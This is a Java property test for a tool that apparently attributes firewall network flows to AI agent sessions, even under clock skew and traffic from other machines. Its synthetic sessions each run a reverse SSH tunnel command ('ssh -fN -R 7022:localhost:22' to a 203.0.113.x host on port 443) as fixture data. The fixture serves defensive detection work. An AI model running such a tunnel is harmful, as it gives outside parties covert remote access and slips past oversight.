package dev.offscript.chains;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.model.EventKind;
import dev.offscript.model.report.Chain;
import dev.offscript.model.report.Step;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Many sessions, few far sides, one firewall whose clock is off, and other machines that talk to
 * the same far sides in the same seconds: whose traffic is whose is known to the generator alone.
 */
class JoinsPropertyTest {

  private static final int SESSIONS = 12;

  /** Sessions by the evidence offset of the flows that are theirs. */
  private record World(Scene scene, Map<String, String> sourceOf) {}

  private static World world(long seed, double skew) {
    Random random = new Random(seed);
    Scene scene = new Scene();
    Map<String, String> sourceOf = new HashMap<>();
    List<double[]> acts = new ArrayList<>();
    for (int i = 0; i < SESSIONS; i++) {
      String id = String.format(Locale.ROOT, "s%02d", i);
      String address = "10.0." + (i / 4) + "." + (10 + i);
      sourceOf.put(id, address);
      double at = 100 + random.nextInt(4000);
      int far = 1 + random.nextInt(3);
      Scene.Told told = scene.session(id, i).at("", "", address).task("Task of " + id);
      double benign = at - 40;
      told.runs(benign, "toolu_" + id + "a1b2c3d4", "curl https://mirror" + i + ".example.org/x")
          .gets(benign + 1, "toolu_" + id + "a1b2c3d4", "", 0)
          .runs(
              at,
              "toolu_" + id + "e5f6g7h8",
              "ssh -fN -R 7022:localhost:22 svc@203.0.113." + far + " -p 443")
          .gets(at + 1, "toolu_" + id + "e5f6g7h8", "", 0);
      acts.add(new double[] {i, at, far, benign});
    }
    for (double[] act : acts) {
      int i = (int) act[0];
      String own = "10.0." + (i / 4) + "." + (10 + i) + ":5000";
      String far = "203.0.113." + (int) act[2] + ":443";
      double start = act[1] + skew + random.nextDouble() * 2;
      scene.flow(
          90, act[3] + skew + 0.5, act[3] + skew + 1, own, "mirror" + i + ".example.org:443");
      scene.flow(90, start, start + 200, own, far);
      // Another machine, the same second, the same far side.
      scene.flow(90, start, start + 200, "10.0." + (i / 4) + "." + (200 + i) + ":5000", far);
      // Another far side, the same second, the same machine.
      scene.flow(90, start, start + 2, own, "198.51.100." + (1 + i) + ":443");
    }
    return new World(scene, sourceOf);
  }

  @ParameterizedTest
  @CsvSource({"1, 0", "2, 0", "3, 37", "4, -37", "5, 120", "6, -120", "7, 119", "8, -61", "9, 600"})
  void everyFlowGoesToTheSessionItCameFrom(long seed, double skew) {
    World world = world(seed, skew);
    List<Chain> chains = world.scene.chains();
    assertThat(chains).hasSize(SESSIONS);
    for (Chain chain : chains) {
      List<Step> flows = chain.steps().stream().filter(s -> s.kind() == EventKind.FLOW).toList();
      assertThat(flows).as(chain.toString()).hasSize(1);
      assertThat(flows.get(0).evidence()).hasSize(1);
      assertThat(flows.get(0).summary()).startsWith(world.sourceOf.get(chain.session().id()) + ":");
    }
  }
}
